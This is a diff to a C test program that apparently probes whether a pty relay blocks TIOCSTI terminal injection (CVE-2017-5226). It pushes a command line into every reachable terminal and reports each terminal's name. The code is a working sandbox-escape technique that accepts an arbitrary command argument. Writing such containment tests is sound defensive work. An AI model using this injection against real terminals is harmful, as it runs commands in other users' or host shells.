@@ -1,6 +1,7 @@
 /* Try to push a command line into every terminal this process can reach:
  * each open fd up to 255, and /dev/tty (its controlling terminal). Prints
- * the fds where TIOCSTI worked. Inside `ptyrun --relay` the only terminal
+ * the fds where TIOCSTI worked, with their terminal's name as seen here
+ * ("?" for a terminal outside this root). Inside `ptyrun --relay` the only terminal
  * reachable is the container's own; without it, fd 0 is the caller's
  * terminal and the line lands in the caller's shell (CVE-2017-5226). */
 #include <fcntl.h>
@@ -20,10 +21,13 @@ static int inject(int fd, const char *line)
 int main(int argc, char **argv)
 {
     const char *line = argc > 1 ? argv[1] : "echo INJECTED\n";
-    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
+    const char *name;
+    open("/dev/tty", O_RDWR | O_NOCTTY);
+    printf("injected:");
     for (int fd = 0; fd < 256; fd++)
         if (fcntl(fd, F_GETFD) != -1 && isatty(fd) && inject(fd, line) == 0)
-            printf("injected into fd %d%s\n", fd, fd == tty ? " (/dev/tty)" : "");
+            printf(" %d=%s", fd, (name = ttyname(fd)) ? name : "?");
+    printf("\n");
     fflush(stdout);
     return 0;
 }
